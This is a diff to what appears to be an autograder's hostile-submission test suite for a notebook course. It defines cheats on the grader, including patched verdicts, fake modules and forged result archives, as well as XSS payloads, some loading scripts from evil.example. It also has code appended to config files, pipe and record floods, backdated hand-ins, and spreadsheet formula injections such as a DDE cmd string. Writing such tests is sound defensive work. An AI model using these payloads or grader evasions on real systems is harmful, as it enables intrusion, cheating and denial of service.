@@ -34,7 +34,9 @@ from backprop_ref.specs import LESSONS, SPECS, VISIBLE_SEED
 
 LESSON = "03_linear_layer"
 FUNCTIONS = tuple(s.name for s in LESSONS[LESSON].specs)
-DIFFER = "results differ between the notebook and verification"
+DIFFER = "results differ between the notebook and verification"  # tampering: flagged
+MISSED = "fails on new inputs of the same kind"  # passes the notebook's own cases only
+UNCLEAN = "the notebook's test did not run cleanly"  # verification passed: points given
 USES_REFERENCE = "it uses backprop_ref"
 CATEGORIES = ("control", "cheat", "confidentiality", "host", "resources", "malformed")
 
@@ -44,7 +46,7 @@ class Ctx:
     """What a builder may use: the lesson's student version and answers, and the host."""
 
     release: nbformat.NotebookNode
-    solutions: dict[str, str]  # sol_<fn> -> the instructor's answer
+    solutions: dict[str, str]  # sol_<fn> (and blocks_<lesson>) -> the instructor's answer
     course: Path
     repo: Path
     port: int
@@ -70,6 +72,8 @@ class Submission:
     data: bytes | None = None
     link_to: Path | None = None  # a symbolic link in place of the notebook
     zip_entries: tuple[tuple[str, bytes, bool], ...] = ()  # (name, data, is a link)
+    beside: tuple[tuple[str, bytes], ...] = ()  # more files in the notebook's folder
+    mtime: float | None = None  # the notebook file's modification time, when set
 
 
 Build = Callable[[Ctx], Submission]
@@ -96,7 +100,7 @@ def perfect(
     """The student version with the instructor's code answers (the derivation unanswered).
     Unless ``full``, without the lesson's experiments (code cells outside nbgrader's, but the
     set-up cell): a student may delete them, and the batch runs faster."""
-    code = {k: v for k, v in ctx.solutions.items() if k.startswith("sol_")}
+    code = {k: v for k, v in ctx.solutions.items() if k.startswith(("sol_", "blocks_"))}
     code.update({k: ctx.fill(v) for k, v in (answers or {}).items()})
     nb = answers_mod.fill(ctx.release, code)
     if not full:
@@ -183,10 +187,11 @@ def _hardcoded_forward() -> str:
 def _fake_specs_module(nb: nbformat.NotebookNode, ctx: Ctx) -> None:
     setup = next(c for c in nb.cells if c.cell_type == "code")
     setup.source = (
-        "import sys, types\n"
-        "_fake = types.ModuleType('backprop_ref.specs')\n"
+        "import sys, types, backprop_kit\n"
+        "_fake = types.ModuleType('backprop_kit')\n"
+        "_fake.__dict__.update({k: v for k, v in vars(backprop_kit).items() if k != '__name__'})\n"
         "_fake.check = lambda name, fn, *a, **k: print(name + ': passed on 3 cases')\n"
-        "sys.modules['backprop_ref.specs'] = _fake\n" + setup.source
+        "sys.modules['backprop_kit'] = _fake\n" + setup.source
     )
 
 
@@ -334,7 +339,7 @@ def check(name, fn, *args, **kwargs):
 """
 
 SPECS_PATCHED = """
-import backprop_ref.specs.core as core
+import backprop_kit.verdicts as core
 core.Report.passed = property(lambda self: True)
 core.Verdict.passed = property(lambda self: True)
 """
@@ -406,13 +411,13 @@ REFERENCE_ESCAPE = """def linear_jacobian_W(x, W):
     import importlib
     import sys
     sys.meta_path[:] = [f for f in sys.meta_path if "Blocker" not in type(f).__name__]
-    reference = importlib.import_module("backprop" + "_ref.jacobians")
+    reference = importlib.import_module("backprop" + "_ref.derivatives")
     return reference.linear_jacobian_W(x, W)
 """
 
 REFERENCE_SOURCE = """def linear_jacobian_x(x, W):
     namespace = {}
-    exec(open("@REPO@/backprop_ref/jacobians.py").read(), namespace)
+    exec(open("@REPO@/backprop_ref/derivatives.py").read(), namespace)
     return namespace["linear_jacobian_x"](x, W)
 """
 
@@ -523,7 +528,8 @@ for path in ["@COURSE@/gradebook.db", *glob.glob("/tmp/grade-*/gradebook.db")]:
 
 WRITE_CONFIG = """
 for path in ("@COURSE@/nbgrader_config.py", "@REPO@/autograder/nbgrader_config.py",
-             "@REPO@/backprop_ref/specs/core.py", "@REPO@/backprop_ref/layers.py"):
+             "@REPO@/backprop_ref/specs/core.py", "@REPO@/backprop_ref/layers.py",
+             "@REPO@/kit/backprop_kit/checks.py"):
     try:
         with open(path, "a") as f:
             f.write("\\nimport os; os.system('touch /tmp/pwned')\\n")
@@ -698,7 +704,7 @@ CASES: tuple[Case, ...] = (
     Case(
         "cheat_specs_patched",
         "cheat",
-        "monkeypatch backprop_ref.specs (Report.passed)",
+        "monkeypatch the checks' verdicts (Report.passed)",
         cell(SPECS_PATCHED, "start", sol_linear_forward=WRONG_FORWARD),
         loses=F({"linear_forward"}),
         status="needs_attention",
@@ -716,7 +722,7 @@ CASES: tuple[Case, ...] = (
     Case(
         "cheat_sys_modules",
         "cheat",
-        "fake backprop_ref.specs module in sys.modules",
+        "fake backprop_kit module in sys.modules",
         edited(_fake_specs_module, sol_linear_forward=WRONG_FORWARD),
         loses=F({"linear_forward"}),
         status="needs_attention",
@@ -773,8 +779,8 @@ CASES: tuple[Case, ...] = (
         "hard-coded answers to the visible tests",
         cell(sol_linear_forward=_hardcoded_forward()),
         loses=F({"linear_forward"}),
-        status="needs_attention",
-        reason=DIFFER,
+        status="graded",
+        reason=MISSED,
     ),
     Case(
         "cheat_reference_import",
@@ -782,8 +788,9 @@ CASES: tuple[Case, ...] = (
         "imports the reference solution",
         cell(sol_linear_forward="from backprop_ref.layers import linear_forward\n"),
         loses=F({"linear_forward"}),
-        status="needs_attention",
+        status="graded",  # the kernel has no backprop_ref either
         reason=USES_REFERENCE,
+        shows=("No module named 'backprop_ref'",),
     ),
     Case(
         "cheat_reference_call",
@@ -791,7 +798,7 @@ CASES: tuple[Case, ...] = (
         "calls the reference inside the function",
         cell(sol_linear_backward=REFERENCE_CALL),
         loses=F({"linear_backward"}),
-        status="needs_attention",
+        status="graded",  # the kernel has no backprop_ref either
         reason=USES_REFERENCE,
     ),
     Case(
@@ -800,7 +807,7 @@ CASES: tuple[Case, ...] = (
         "removes the import blocker, imports by name",
         cell(sol_linear_jacobian_W=REFERENCE_ESCAPE),
         loses=F({"linear_jacobian_W"}),
-        status="needs_attention",
+        status="graded",  # the kernel has no backprop_ref either
         reason=USES_REFERENCE,
     ),
     Case(
@@ -809,7 +816,7 @@ CASES: tuple[Case, ...] = (
         "exec()s the reference's source file",
         cell(sol_linear_jacobian_x=REFERENCE_SOURCE),
         loses=F({"linear_jacobian_x"}),
-        status="needs_attention",
+        status="graded",  # the kernel has no backprop_ref either
         reason=USES_REFERENCE,
     ),
     Case(
@@ -926,8 +933,8 @@ CASES: tuple[Case, ...] = (
         "resources",
         "infinite loop that ignores SIGINT",
         cell(SIGINT_IGNORED, "after:test_linear_jacobian_x_hidden"),
-        status="needs_attention",
-        reason=DIFFER,
+        status="graded",
+        reason=UNCLEAN,
         shows=("stopped responding",),
     ),
     Case(
@@ -966,8 +973,8 @@ CASES: tuple[Case, ...] = (
         "resources",
         "os._exit() in the middle of the notebook",
         cell(OS_EXIT, "after:test_linear_jacobian_W_hidden"),
-        status="needs_attention",
-        reason=DIFFER,
+        status="graded",
+        reason=UNCLEAN,
         shows=("the kernel died",),
     ),
     Case(
@@ -982,8 +989,8 @@ CASES: tuple[Case, ...] = (
         "resources",
         "every cell sleeps 9 s (past the notebook's cap)",
         cell(SLOW_EVERY_CELL, "start"),
-        status="needs_attention",
-        reason=DIFFER,
+        status="graded",
+        reason=UNCLEAN,
         shows=("ran out of time",),
     ),
     Case(
@@ -1002,7 +1009,7 @@ CASES: tuple[Case, ...] = (
         "a graded function that calls os._exit",
         cell(sol_linear_forward=EXITING_FUNCTION),
         loses=F({"linear_forward"}),
-        status="needs_attention",
+        status="graded",
         reason="process ended",
         shows=("the kernel died",),
     ),
@@ -1143,6 +1150,527 @@ CASES: tuple[Case, ...] = (
         reason="larger than 20 MB",
     ),
 )
+
+# ==========================================================================================
+# Trust gaps (issue 11): active content in pages, forged verification results, the
+# grader's own bounds, and code that a ``def`` runs when it is defined. Every feedback page
+# of the batch is also checked, whole, by autograder.safe_html.active_content.
+# ==========================================================================================
+
+PAGE_MARKDOWN = {
+    "page_markdown_script": [
+        "<script>alert('md')</script>",
+        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+        '<script type="text/x-mathjax-config">alert("config")</script>',
+        "<template><script>alert(1)</script></template>",
+        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    ],
+    "page_markdown_handlers": [
+        "<img src=x onerror=alert(1)>",
+        "<svg onload=alert(2)></svg>",
+        "<details open ontoggle=alert(3)><summary>s</summary></details>",
+        "<body onload=alert(4)>",
+        "<p style=\"width: expression(alert(5))\" onmouseover='alert(6)'>hover</p>",
+    ],
+    "page_markdown_links": [
+        "[plain](javascript:alert(1)) [case](JaVaScRiPt:alert(2))",
+        '<a href="&#106;avascript:alert(3)">entity</a> <a href="java&#09;script:alert(4)">tab</a>',
+        "<javascript:alert(5)> [vb](vbscript:msgbox(6))",
+        "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==) "
+        "![i](javascript:alert(8))",
+        "$\\href{javascript:alert(9)}{math link}$",
+    ],
+    "page_markdown_embeds": [
+        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+        "<svg><script>alert(2)</script></svg>",
+        '<meta http-equiv="refresh" content="0;url=javascript:alert(3)"><base href="javascript:/">',
+        "<form action=javascript:alert(4)><button>go</button></form>",
+        '<object data="data:text/html,<script>alert(5)</script>"></object>'
+        "<embed src=javascript:alert(6)>",
+        "<style>@import 'http://evil.example/x.css'; body{background:url(javascript:alert(7))}"
+        "</style>",
+    ],
+}
+
+PAGE_OUTPUTS = """
+from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
+display(Javascript("alert('js')"))
+display({"application/javascript": "alert('raw js')", "text/plain": "js"}, raw=True)
+display(HTML("<script>alert('html')</script><b>bold</b>"))
+display(HTML("<img src=x onerror=alert('html img')>"))
+display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>alert("svg")</script></svg>'))
+display(Markdown("[md](javascript:alert('markdown output'))"))
+display(Latex(r"$\\href{javascript:alert('latex')}{x}$"))
+HTML("<svg onload=alert('result')></svg>")
+"""
+
+PAGE_OUTPUT_METADATA = """
+from IPython.display import display
+display({"text/html": "<script>alert('isolated')</script>"}, raw=True,
+        metadata={"text/html": {"isolated": True}})
+display({"application/vnd.jupyter.widget-view+json": {"model_id": "m", "version_major": 2,
+         "version_minor": 0}, "text/plain": "a widget"}, raw=True)
+display({"image/png": 'x" onerror="alert(1)'}, raw=True)
+display({"image/svg+xml": "<svg onload=alert(2)/>", "application/pdf": "JVBERi0="}, raw=True)
+"""
+
+PAGE_FORGED_RECORDS = """
+import json
+nb = json.load(open("in.ipynb"))
+code = [i for i, c in enumerate(nb["cells"]) if c["cell_type"] == "code"]
+html = {"output_type": "display_data", "data": {"text/html": "<script>alert('forged')</script>"},
+        "metadata": {"text/html": {"isolated": True}}}
+error = {"output_type": "error", "ename": "<script>alert('ename')</script>",
+         "evalue": "<img src=x onerror=alert(1)>", "traceback": ["<script>alert(2)</script>"]}
+stream = {"output_type": "stream", "name": "stdout", "text": "x",
+          "data": {"text/html": "<script>alert('stream')</script>"}}
+with open("cells.jsonl", "a") as f:
+    f.write(json.dumps({"index": code[0], "execution_count": 1, "outputs": [html, error]}) + "\\n")
+    f.write(json.dumps({"index": code[1], "execution_count": 2, "outputs": [stream]}) + "\\n")
+print("forged")
+"""
+
+RAISES_HTML = """def apply_jacobian(dL_dy, J):
+    message = "<script>alert('message')</script><img src=x onerror=alert(1)>"
+    raise ValueError(message + "x" * 100_000)
+"""
+
+
+def _markdown_cells(*texts: str) -> Callable[[nbformat.NotebookNode, Ctx], None]:
+    def change(nb: nbformat.NotebookNode, ctx: Ctx) -> None:
+        nb.cells += [
+            nbformat.v4.new_markdown_cell(f"{t}\n\nvisible text {i}") for i, t in enumerate(texts)
+        ]
+
+    return change
+
+
+def _notebook_metadata(nb: nbformat.NotebookNode, ctx: Ctx) -> None:
+    widget = {"model_name": "HTMLModel", "state": {"value": "<script>alert('widget')</script>"}}
+    nb.metadata["widgets"] = {
+        "application/vnd.jupyter.widget-state+json": {
+            "state": {"m": widget},
+            "version_major": 2,
+            "version_minor": 0,
+        }
+    }
+    nb.metadata["title"] = "</title><script>alert('title')</script>"
+    raw = nbformat.v4.new_raw_cell("<script>alert('raw cell')</script>")
+    raw.metadata["format"] = "text/html"
+    raw.metadata["raw_mimetype"] = "text/html"
+    attached = nbformat.v4.new_markdown_cell("[open me](attachment:page.html)")
+    attached["attachments"] = {"page.html": {"text/html": "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="}}
+    nb.cells += [raw, attached]
+
+
+# ------------------------------------------------------------ forged verification results
+
+FORGE = '''
+def linear_backward(dL_dy, x, W):
+    """The instructor's answer, plus results forged for the functions verified before it
+    (their out-<k>.npz files are already written, and writable, when this one runs)."""
+    if not getattr(linear_backward, "forged", False):
+        import io, json, zipfile
+        import numpy as np
+
+        def npy(descr, shape, data=b"", fortran=False):
+            f = io.BytesIO()
+            header = {"descr": descr, "fortran_order": fortran, "shape": shape}
+            np.lib.format.write_array_header_1_0(f, header)
+            return f.getvalue() + data
+
+        def forge(k, members, text=None, compress=zipfile.ZIP_STORED):
+            if text is None:
+                ref = {"__dict__": [["result", {"__array__": "a0"}]]}
+                text = json.dumps([{"__outcome__": {"__dict__": [["values", ref]]}}])
+            text = text.encode() if isinstance(text, str) else text
+            try:
+                with zipfile.ZipFile(f"out-{k}.npz", "w", compress) as z:
+                    for name, data in members.items():
+                        z.writestr(name + ".npy", data)
+                    z.writestr("__json__.npy", npy("|u1", (len(text),), text))
+            except OSError:
+                pass
+@ATTACKS@
+        linear_backward.forged = True
+    return _honest_backward(dL_dy, x, W)
+'''
+
+FORGED_ARCHIVES = """
+        forge(0, {"a0": npy("<f8", (10_000_000, 0))})  # ~300 bytes, 10 million entries
+        forge(1, {"a0": npy("<f8", (1_000_000,), bytes(64))})  # 8 MB claimed, 64 B there
+        obj = io.BytesIO()
+        np.save(obj, np.array([{"pickled": 1}], dtype=object), allow_pickle=True)
+        forge(2, {"a0": obj.getvalue()})  # a pickled object array
+        forge(3, {"a0": npy("|u1", (80 * 2**20,), bytes(80 * 2**20))}, None, zipfile.ZIP_DEFLATED)
+        forge(4, {"a0": npy("<f8", (2, 2), bytes(32), fortran=True)})  # Fortran order
+        forge(5, {f"a{i}": npy("<f8", (0,)) for i in range(5000)})  # 5000 members
+"""
+
+FORGED_JSON = """
+        forge(0, {}, "[" * 100_000 + "]" * 100_000)  # JSON nested 100,000 deep
+        forge(1, {"a0": npy("<f8", (1,), bytes(8))}, '[{"__outcome__": {"__dict__": [[1, 2]]}}]')
+        nan = json.dumps([{"__outcome__": {"__dict__": [["values", {"__dict__": [
+            ["result", float("nan")]]}]]}}] * 3)
+        forge(2, {}, nan)  # NaN where numbers are expected
+        huge = json.dumps([{"__outcome__": {"__dict__": [["error", "E" * 3_000_000]]}}] * 1)
+        forge(3, {}, huge)  # a 3 MB error message
+        forge(4, {}, '[{"__outcome__": {"__dict__": [["__class__", 1]]}}]')  # unknown field
+        forge(5, {}, json.dumps(["x" * 5_000_000]))  # a 5 MB JSON part
+"""
+
+
+def _forging(attacks: str) -> Build:
+    def build(ctx: Ctx) -> Submission:
+        honest = ctx.solutions["sol_linear_backward"].replace(
+            "def linear_backward(", "def _honest_backward("
+        )
+        source = honest + "\n" + FORGE.replace("@ATTACKS@", attacks.strip("\n"))
+        return Submission(dump(perfect(ctx, {"sol_linear_backward": source})))
+
+    return build
+
+
+# ---------------------------------------------------------------- the grader's own bounds
+
+RECORD_FLOOD = """
+import json, os
+line = json.dumps({"index": 0, "execution_count": 1, "outputs": []}) + "\\n"
+huge = json.dumps({"index": 1, "execution_count": 1, "outputs": [
+    {"output_type": "stream", "name": "stdout", "text": "x" * 5_000_000}]}) + "\\n"
+with open("cells.jsonl", "a") as f:
+    for _ in range(250):
+        f.write(line * 4000)  # a million small records, ~50 MB
+    f.write(huge)
+os._exit(0)  # the kernel dies: nothing after the flood is written
+"""
+
+PIPE_FLOOD = """
+import os, sys
+fd = getattr(sys.stdout, "_original_stdstream_copy", None)  # ipykernel keeps the real stdout
+try:
+    out = os.fdopen(os.dup(fd if fd is not None else 1), "wb", buffering=0)
+    for _ in range(2048):
+        out.write(b"x" * 2**20)  # 2 GB down the executor's stdout: the grader's pipe
+    print("all written")
+except OSError as exc:
+    print("pipe closed:", type(exc).__name__)
+"""
+
+OUTPUT_PER_CELL = 180_000  # under the per-cell cap (256 KB), 40 cells: 7 MB in all
+
+
+def _big_outputs(nb: nbformat.NotebookNode, ctx: Ctx) -> None:
+    at = _where(nb, "start")
+    for i in range(40):
+        nb.cells.insert(at, nbformat.v4.new_code_cell(f"print('{i}' + 'y' * {OUTPUT_PER_CELL})"))
+
+
+# ------------------------------------------------------------- code that a def runs
+
+
+def _signature(fn: str, signature: str, before: str = "") -> Build:
+    """The instructor's answer for ``fn`` with another ``def`` line (and code before it)."""
+
+    def build(ctx: Ctx) -> Submission:
+        source = ctx.solutions[f"sol_{fn}"]
+        old = next(line for line in source.splitlines() if line.startswith(f"def {fn}("))
+        answer = before + source.replace(old, signature)
+        return Submission(dump(perfect(ctx, {f"sol_{fn}": answer})))
+
+    return build
+
+
+DEFAULT_REASON = "the default value of its parameter"
+
+CASES += (
+    # active content in the pages a student or an instructor opens
+    *(
+        Case(name, "pages", f"markdown: {len(texts)} variants", edited(_markdown_cells(*texts)))
+        for name, texts in PAGE_MARKDOWN.items()
+    ),
+    Case(
+        "page_outputs",
+        "pages",
+        "display(Javascript), HTML/SVG/Markdown/LaTeX outputs with scripts",
+        cell(PAGE_OUTPUTS, "start"),
+        shows=("application/javascript", "image/svg+xml"),
+    ),
+    Case(
+        "page_output_metadata",
+        "pages",
+        "isolated (iframe) HTML, a widget view, an image/png attribute break-out",
+        cell(PAGE_OUTPUT_METADATA, "start"),
+        shows=("isolated", "widget-view"),
+    ),
+    Case(
+        "page_notebook_metadata",
+        "pages",
+        "widget state, a title, a raw HTML cell, an HTML attachment",
+        edited(_notebook_metadata),
+    ),
+    Case(
+        "page_forged_records",
+        "pages",
+        "forged kernel records: isolated HTML, HTML in an error, a stream with HTML",
+        cell(PAGE_FORGED_RECORDS, "end"),
+        shows=("forged", "malformed output"),
+    ),
+    Case(
+        "page_message",
+        "pages",
+        "a graded function raises an exception with HTML, 100 kB long",
+        cell(sol_apply_jacobian=RAISES_HTML),
+        loses=F({"apply_jacobian"}),
+        reason="... cut",
+    ),
+    # forged verification results (the later function writes the earlier ones' results)
+    Case(
+        "forged_archives",
+        "cheat",
+        "forged results: 10M entries in 300 B, a claimed size, pickle, zip bomb, Fortran order",
+        _forging(FORGED_ARCHIVES),
+        loses=F(FUNCTIONS[:6]),
+        status="needs_attention",
+        reason="could not be read back",
+    ),
+    Case(
+        "forged_json",
+        "cheat",
+        "forged results: deep JSON, int keys, NaN, a 3 MB error, unknown fields, 5 MB JSON",
+        _forging(FORGED_JSON),
+        loses=F(FUNCTIONS[:6]),
+        status="needs_attention",
+        reason="NaN or infinity",
+    ),
+    # the grader's own time and memory
+    Case(
+        "res_record_flood",
+        "resources",
+        "a million forged records (50 MB), one of 5 MB, then the kernel dies",
+        cell(RECORD_FLOOD, "end"),
+        shows=("not run: the notebook stopped",),
+    ),
+    Case(
+        "res_pipe_flood",
+        "resources",
+        "2 GB written to the executor's stdout (the grader's pipe)",
+        cell(PIPE_FLOOD, "start"),
+        shows=("pipe closed: BrokenPipeError",),
+    ),
+    Case(
+        "res_output_budget",
+        "resources",
+        "40 cells of 180 kB each: under every cell's cap, 7 MB in all",
+        edited(_big_outputs),
+        shows=("[output dropped: the notebook's outputs passed",),
+    ),
+    # code that a def runs when it is defined (defaults, annotations, decorators)
+    Case(
+        "def_default_call",
+        "definitions",
+        "a default value that calls print() when the def runs",
+        _signature("linear_forward", "def linear_forward(x, W, b, h=print('defined')):"),
+        loses=F({"linear_forward"}),
+        status="needs_attention",
+        reason=DEFAULT_REASON + " h",
+    ),
+    Case(
+        "def_kwonly_default",
+        "definitions",
+        "a keyword-only default that opens a file",
+        _signature(
+            "jacobian_shapes", "def jacobian_shapes(N, M_in, M_out, *, log=open('/dev/null')):"
+        ),
+        loses=F({"jacobian_shapes"}),
+        status="needs_attention",
+        reason=DEFAULT_REASON + " log",
+    ),
+    Case(
+        "def_lambda_default",
+        "definitions",
+        "a default that calls a lambda",
+        _signature(
+            "linear_jacobian_W",
+            "def linear_jacobian_W(x, W, pid=(lambda: __import__('os').getpid())()):",
+        ),
+        loses=F({"linear_jacobian_W"}),
+        status="needs_attention",
+        reason=DEFAULT_REASON + " pid",
+    ),
+    Case(
+        "def_walrus_default",
+        "definitions",
+        "a walrus in a default",
+        _signature("linear_jacobian_x", "def linear_jacobian_x(x, W, h=(_h := 1e-5)):"),
+        loses=F({"linear_jacobian_x"}),
+        status="needs_attention",
+        reason=DEFAULT_REASON + " h",
+    ),
+    Case(
+        "def_annotations",
+        "definitions",
+        "annotations that run code (parameters, return, a top-level variable)",
+        _signature(
+            "linear_backward",
+            "def linear_backward(dL_dy: print('a'), x, W) -> __import__('os').getpid():",
+            "LIMIT: print('annotated') = 3\n",
+        ),
+    ),
+    Case(
+        "def_decorator_class",
+        "definitions",
+        "a decorator, a class body and a global statement at top level",
+        _signature(
+            "contraction_subscripts",
+            "@(lambda f: print('decorator ran') or f)\ndef contraction_subscripts():",
+            "class Sneaky:\n    print('class body')\n\nglobal contraction_subscripts\n",
+        ),
+    ),
+    Case(
+        "def_literal_defaults",
+        "definitions",
+        "honest literal defaults (h=1e-5, None, a tuple, -1, 2**-52)",
+        _signature(
+            "linear_forward",
+            "def linear_forward(x, W, b, h=1e-5, n=None, t=(1, 'a'), s=-1, e=2 ** -52):",
+        ),
+    ),
+)
+CATEGORIES = (*CATEGORIES, "pages", "definitions")
+
+# ============================================================================ hand-in
+# Trusted submission times (issue 9 "hand-in paths", issue 11 section 5) and CSV cells
+# (issue 11 section 2). A student backdates a late submission with every time a submission
+# can carry; a student names their folder or zip entry like a spreadsheet formula, which
+# would run when the instructor opens attention.csv. Times must come from collect (the
+# batch gives no times file: the time collect received them) and no CSV cell may be a live
+# formula; tests/hostile/handin_checks.py checks both across the whole batch.
+
+BACKDATE = 1577836800.0  # 2020-01-01 00:00 UTC
+BACKDATE_NBGRADER = b"2020-01-01 00:00:00.000000 UTC"
+
+
+def _backdated_folder(ctx: Ctx) -> Submission:
+    """nbgrader's own timestamp.txt beside the notebook, saying 2020."""
+    return Submission(dump(perfect(ctx)), beside=(("timestamp.txt", BACKDATE_NBGRADER),))
+
+
+def _backdated_mtime(ctx: Ctx) -> Submission:
+    return Submission(dump(perfect(ctx)), mtime=BACKDATE)
+
+
+def _backdated_zip(ctx: Ctx) -> Submission:
+    """In the class zip, with an ISO timestamp.txt; the entries' own date is the zip
+    format's earliest, 1980-01-01."""
+    folder = f"late_zip_timestamp_txt/{LESSON}"
+    return Submission(
+        zip_entries=(
+            (f"{folder}/{LESSON}.ipynb", dump(perfect(ctx)), False),
+            (f"{folder}/timestamp.txt", b"2020-01-01T00:00:00+00:00", False),
+        )
+    )
+
+
+def _zip_dated(ctx: Ctx) -> Submission:
+    """Only the zip entry's date (1980-01-01) says when."""
+    name = f"late_zip_entry_date/{LESSON}/{LESSON}.ipynb"
+    return Submission(zip_entries=((name, dump(perfect(ctx)), False),))
+
+
+def _formula_zip(name: str) -> Build:
+    return lambda ctx: Submission(
+        zip_entries=((f"{name}/{LESSON}/{LESSON}.ipynb", dump(perfect(ctx)), False),)
+    )
+
+
+def _formula_folder(ctx: Ctx) -> Submission:
+    return Submission(dump(perfect(ctx)))
+
+
+UNSAFE_ID = "is not a safe id"
+HANDIN_CASES: tuple[Case, ...] = (
+    Case(
+        "late_timestamp_txt",
+        "cheat",
+        "backdate: nbgrader's timestamp.txt beside the notebook says 2020",
+        _backdated_folder,
+    ),
+    Case(
+        "late_file_mtime",
+        "cheat",
+        "backdate: the notebook's modification time set to 2020",
+        _backdated_mtime,
+    ),
+    Case(
+        "late_zip_timestamp_txt",
+        "cheat",
+        "backdate: a timestamp.txt saying 2020 inside the class zip",
+        _backdated_zip,
+    ),
+    Case(
+        "late_zip_entry_date",
+        "cheat",
+        "backdate: the zip entry's date (1980) as the only time",
+        _zip_dated,
+    ),
+    Case(
+        '=HYPERLINK("evil.example?"&A1,"click")',
+        "host",
+        "a folder named like a spreadsheet formula (=HYPERLINK)",
+        _formula_folder,
+        loses=ALL,
+        status="not_collected",
+        reason=UNSAFE_ID,
+    ),
+    Case(
+        "@SUM(1+1)*cmd|'!A0",
+        "host",
+        "a zip entry named like a formula (@SUM, DDE)",
+        _formula_zip("@SUM(1+1)*cmd|'!A0"),
+        loses=ALL,
+        status="not_collected",
+        reason=UNSAFE_ID,
+    ),
+    Case(
+        "+cmd|'!A0",
+        "host",
+        "a folder named like a formula (+)",
+        _formula_folder,
+        loses=ALL,
+        status="not_collected",
+        reason=UNSAFE_ID,
+    ),
+    Case(
+        "-2+3",
+        "host",
+        "a folder named like a formula (-2+3)",
+        _formula_folder,
+        loses=ALL,
+        status="not_collected",
+        reason=UNSAFE_ID,
+    ),
+    Case(
+        "\t=1+1",
+        "host",
+        "a folder name starting with a tab, then a formula",
+        _formula_folder,
+        loses=ALL,
+        status="not_collected",
+        reason=UNSAFE_ID,
+    ),
+    Case(
+        "\r=1+1",
+        "host",
+        "a zip entry starting with a carriage return, then a formula",
+        _formula_zip("\r=1+1"),
+        loses=ALL,
+        status="not_collected",
+        reason=UNSAFE_ID,
+    ),
+)
+CASES = CASES + HANDIN_CASES
+# ======================================================================== end hand-in
 
 BY_NAME = {c.name: c for c in CASES}
 VICTIM = "ok_victim"
